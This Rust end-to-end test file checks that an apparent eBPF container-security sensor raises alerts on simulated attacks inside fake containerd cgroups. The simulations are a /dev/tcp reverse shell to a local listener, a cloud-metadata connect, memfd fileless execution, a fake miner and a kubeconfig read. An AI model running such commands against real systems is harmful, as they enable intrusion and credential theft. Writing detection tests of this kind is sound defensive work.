//! End to end: `palisade sensor run` with its real eBPF programs in the kernel, and real attack
//! behaviour run by this test inside cgroup v2 directories laid out like containerd's.
//!
//! The test creates two "containers" under the cgroup2 mount
//! (`kubepods.slice/…/kubepods-besteffort-pod<uid>.slice/cri-containerd-<id>.scope`), starts the
//! sensor writing JSON lines to a file, and runs each simulation as a shell that first moves itself
//! into a container's cgroup and then execs the behaviour:
//! - a shell whose stdin/stdout/stderr is a TCP socket to a listener of this test (reverse shell);
//! - a binary copied into place, made executable and run (binary drift), and one fetched by curl
//!   then run (download and run);
//! - a read of a kubeconfig (a fake one, under a prefix given to the kernel filter);
//! - `unshare -Urn` (new user and network namespaces);
//! - a connect to 169.254.169.254 (cloud metadata);
//! - a process named `xmrig` with pool arguments (miner);
//! - a memfd executed (fileless).
//!
//! Benign work (ls, cat, grep, sleep, a local TCP connection) runs in the second container, which
//! must raise nothing. Alerts must name the container id, runtime and pod uid from the cgroup path.
//!
//! Needs root and BPF. It fails when they are missing, unless PALISADE_SKIP_BPF_TESTS=1.

use palisade_testkit::{Proc, free_port};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Removes the fake container cgroups on drop (after their processes ended).
struct FakeContainer {
    dir: PathBuf,
    id: String,
    pod_uid: String,
}

impl Drop for FakeContainer {
    fn drop(&mut self) {
        // Innermost first; the slices are shared and removed only when empty.
        let mut dir = Some(self.dir.clone());
        for _ in 0..4 {
            let Some(d) = dir else { break };
            let _ = std::fs::remove_dir(&d);
            dir = d.parent().map(Path::to_path_buf);
        }
    }
}

fn bpf_tests_skipped() -> bool {
    if std::env::var("PALISADE_SKIP_BPF_TESTS").as_deref() == Ok("1") {
        eprintln!("SKIP: PALISADE_SKIP_BPF_TESTS=1");
        return true;
    }
    false
}

/// The cgroup2 mount: `/sys/fs/cgroup` on unified hosts, `/sys/fs/cgroup/unified` on hybrid ones.
fn cgroup2_root() -> PathBuf {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
    for line in mountinfo.lines() {
        let Some((left, right)) = line.split_once(" - ") else {
            continue;
        };
        if right.starts_with("cgroup2 ") {
            let mount_point = left.split(' ').nth(4).expect("mount point field");
            return PathBuf::from(mount_point);
        }
    }
    panic!("no cgroup2 mount in /proc/self/mountinfo");
}

fn random_hex(bytes: usize) -> String {
    let mut buf = vec![0u8; bytes];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut buf))
        .expect("urandom");
    buf.iter().map(|b| format!("{b:02x}")).collect()
}

/// A containerd (systemd cgroup driver) container directory with a fresh id and pod uid.
fn fake_container(root: &Path) -> FakeContainer {
    let id = random_hex(32);
    let uid = format!(
        "{}-{}-{}-{}-{}",
        random_hex(4),
        random_hex(2),
        random_hex(2),
        random_hex(2),
        random_hex(6)
    );
    let dir = root
        .join("kubepods.slice")
        .join("kubepods-besteffort.slice")
        .join(format!(
            "kubepods-besteffort-pod{}.slice",
            uid.replace('-', "_")
        ))
        .join(format!("cri-containerd-{id}.scope"));
    std::fs::create_dir_all(&dir).expect("create the container cgroup");
    FakeContainer {
        dir,
        id,
        pod_uid: uid,
    }
}

/// The capabilities containerd gives a container by default (not privileged).
const CONTAINER_CAPS: &str = "-all,+chown,+dac_override,+fowner,+fsetid,+kill,+setgid,+setuid,\
+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod,+audit_write,+setfcap";

/// Runs `script` with bash inside `container`'s cgroup, with a default container's capability
/// set, and waits for it.
fn run_in(container: &FakeContainer, script: &str, env: &[(&str, &str)]) {
    let procs = container.dir.join("cgroup.procs");
    let wrapped = format!("echo $$ > {} || exit 97\n{script}", procs.display());
    let mut command = Command::new("setpriv");
    command
        .arg(format!("--bounding-set={CONTAINER_CAPS}"))
        .arg(format!("--inh-caps={CONTAINER_CAPS}"))
        .arg("bash")
        .arg("-c")
        .arg(&wrapped)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    for (k, v) in env {
        command.env(k, v);
    }
    let output = command.output().expect("run bash");
    assert_ne!(
        output.status.code(),
        Some(97),
        "could not enter the cgroup: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

fn http_get(port: u16, path: &str) -> Option<(u16, String)> {
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    let mut text = String::new();
    stream.read_to_string(&mut text).ok()?;
    let code = text.split(' ').nth(1)?.parse().ok()?;
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_string())?;
    Some((code, body))
}

fn records(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn alerts(path: &Path) -> Vec<Value> {
    records(path)
        .into_iter()
        .filter(|r| r["record"] == "alert")
        .collect()
}

/// Alerts of `rule` that name `container`.
fn alerts_of<'a>(all: &'a [Value], rule: &str, container: &FakeContainer) -> Vec<&'a Value> {
    all.iter()
        .filter(|a| a["rule.id"] == rule && a.to_string().contains(&container.id))
        .collect()
}

fn metric(text: &str, name: &str) -> f64 {
    text.lines()
        .filter(|l| {
            l.strip_prefix(name)
                .is_some_and(|rest| rest.starts_with(' ') || rest.starts_with('{'))
        })
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

/// The attack simulations, in order; each is (rule that must fire, bash script).
fn attacks(work: &Path, listener_port: u16) -> Vec<(&'static str, String)> {
    let w = work.display();
    vec![
        (
            "K8S.NODE_ReverseShell",
            format!(
                "exec 3<>/dev/tcp/127.0.0.1/{listener_port}; exec sh -c 'echo pwned; exit 0' <&3 >&3 2>&3"
            ),
        ),
        (
            "K8S.NODE_BinaryDrift",
            format!("cp /bin/true {w}/dropped && chmod +x {w}/dropped && {w}/dropped"),
        ),
        (
            "K8S.NODE_DownloadAndRunCombo",
            format!(
                "curl -s -o {w}/payload file:///bin/true && chmod 755 {w}/payload && {w}/payload"
            ),
        ),
        (
            "K8S.NODE_KubeConfigAccess",
            format!("cat {w}/home/admin/.kube/config > /dev/null"),
        ),
        (
            "K8S.NODE_NamespaceCreation",
            "unshare -Urn true 2>/dev/null; true".to_string(),
        ),
        (
            "K8S.NODE_ImdsCall",
            "timeout 3 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80' 2>/dev/null; true".to_string(),
        ),
        (
            "K8S.NODE_CryptoCoinMinerExecution",
            format!(
                "cp /bin/sleep {w}/xmrig && {w}/xmrig 0.1 --url stratum+tcp://pool.example:3333 --donate-level 1 2>/dev/null; true"
            ),
        ),
        (
            "K8S.NODE_FilelessExecution",
            "python3 -c 'import os; fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])'"
                .to_string(),
        ),
    ]
}

#[test]
fn sensor_raises_node_alerts_on_real_attack_behaviour_and_stays_quiet_on_benign_work() {
    if bpf_tests_skipped() {
        return;
    }
    let root = cgroup2_root();
    let attacked = fake_container(&root);
    let benign = fake_container(&root);
    let work = tempfile::tempdir().expect("tempdir");
    let kube_dir = work.path().join("home/admin/.kube");
    std::fs::create_dir_all(&kube_dir).expect("mkdir");
    std::fs::write(
        kube_dir.join("config"),
        "apiVersion: v1\nkind: Config\nclusters: []\n",
    )
    .expect("fake kubeconfig");
    let output = work.path().join("sensor.jsonl");
    let health = free_port();
    let mut sensor = Proc::spawn(
        "palisade sensor run",
        Command::new(env!("CARGO_BIN_EXE_palisade"))
            .args([
                "sensor",
                "run",
                "--no-kubernetes",
                "--node-name",
                "e2e-node",
            ])
            .arg("--output")
            .arg(&output)
            .arg("--health-addr")
            .arg(format!("127.0.0.1:{health}"))
            .arg("--sensitive-prefix")
            .arg(format!("{}/", work.path().display()))
            .stdout(Stdio::null())
            .stderr(Stdio::piped()),
    );

    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some((200, _)) = http_get(health, "/readyz") {
            break;
        }
        if let Ok(Some(status)) = sensor.child.try_wait() {
            let mut err = String::new();
            if let Some(mut e) = sensor.child.stderr.take() {
                let _ = e.read_to_string(&mut err);
            }
            panic!("palisade sensor exited ({status}) before ready:\n{err}");
        }
        assert!(Instant::now() < deadline, "sensor not ready within 60 s");
        std::thread::sleep(Duration::from_millis(200));
    }

    // Benign work first, in its own container.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let benign_port = listener.local_addr().expect("addr").port();
    run_in(
        &benign,
        &format!(
            "ls / > /dev/null; cat /etc/hostname > /dev/null; echo hello | grep -q h; date > /dev/null; \
             sleep 0.1; id > /dev/null; env > /dev/null; exec 3<>/dev/tcp/127.0.0.1/{benign_port}; echo hi >&3; exec 3>&-"
        ),
        &[],
    );
    drop(listener.accept());

    // The reverse shell talks to a listener of ours.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let accept = std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
            let mut buf = [0u8; 64];
            let _ = stream.read(&mut buf);
        }
    });
    let simulations = attacks(work.path(), port);
    for (_, script) in &simulations {
        run_in(&attacked, script, &[]);
    }
    let _ = accept.join();

    // Wait until every expected alert arrived (the sensor sends the first alert of a group at once).
    let deadline = Instant::now() + Duration::from_secs(60);
    let missing = loop {
        let all = alerts(&output);
        let missing: Vec<&str> = simulations
            .iter()
            .map(|(rule, _)| *rule)
            .filter(|rule| alerts_of(&all, rule, &attacked).is_empty())
            .collect();
        if missing.is_empty() || Instant::now() > deadline {
            break missing;
        }
        std::thread::sleep(Duration::from_millis(300));
    };

    let (code, metrics) = http_get(health, "/metrics").expect("metrics");
    assert_eq!(code, 200);

    // A clean stop: SIGTERM, exit 0, everything flushed.
    let pid = sensor.child.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .expect("kill")
            .success()
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(status) = sensor.child.try_wait().expect("wait") {
            break status;
        }
        assert!(Instant::now() < deadline, "sensor did not stop on SIGTERM");
        std::thread::sleep(Duration::from_millis(100));
    };
    let mut stderr = String::new();
    if let Some(mut e) = sensor.child.stderr.take() {
        let _ = e.read_to_string(&mut stderr);
    }
    assert!(status.success(), "sensor exit {status}; stderr:\n{stderr}");

    let all = alerts(&output);
    let summary: Vec<String> = all
        .iter()
        .map(|a| format!("{} {}", a["rule.id"], a["message"]))
        .collect();
    assert!(
        missing.is_empty(),
        "no alert for {missing:?}; alerts raised:\n{}\nstderr:\n{stderr}",
        summary.join("\n")
    );

    // Attribution from the cgroup path: container id, runtime and pod uid.
    let reverse = alerts_of(&all, "K8S.NODE_ReverseShell", &attacked);
    let text = reverse[0].to_string();
    assert!(text.contains("containerd"), "runtime missing: {text}");
    assert!(text.contains(&attacked.pod_uid), "pod uid missing: {text}");
    assert!(text.contains("e2e-node"), "node name missing: {text}");
    for alert in &all {
        assert!(
            !alert.to_string().contains(&benign.id),
            "benign work raised an alert: {alert}"
        );
        assert!(
            alert["threat.technique.id"]
                .as_array()
                .is_some_and(|t| !t.is_empty()),
            "alert without a MITRE technique: {alert}"
        );
    }

    // Nothing lost: no drops in the kernel or in userspace.
    let drops = metric(&metrics, "palisade_sensor_kernel_ringbuf_dropped_total")
        + metric(&metrics, "palisade_sensor_userspace_dropped_total")
        + metric(&metrics, "palisade_sensor_publish_dropped_records_total");
    assert_eq!(drops, 0.0, "drops reported:\n{metrics}");
    assert!(
        metric(&metrics, "palisade_sensor_events_total") > 0.0,
        "no events counted:\n{metrics}"
    );
}

#[test]
fn sensor_without_bpf_permission_says_what_to_grant_and_exits_3() {
    if bpf_tests_skipped() {
        return;
    }
    // Drop to nobody with no capabilities: loading BPF programs is then refused by the kernel.
    let output = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
            "--bounding-set=-all",
        ])
        .arg(env!("CARGO_BIN_EXE_palisade"))
        .args(["sensor", "check"])
        .output()
        .expect("run setpriv");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(output.status.code(), Some(3), "output:\n{text}");
    assert!(
        text.contains("CAP_BPF") && text.contains("CAP_PERFMON"),
        "the report does not say what to grant:\n{text}"
    );
}
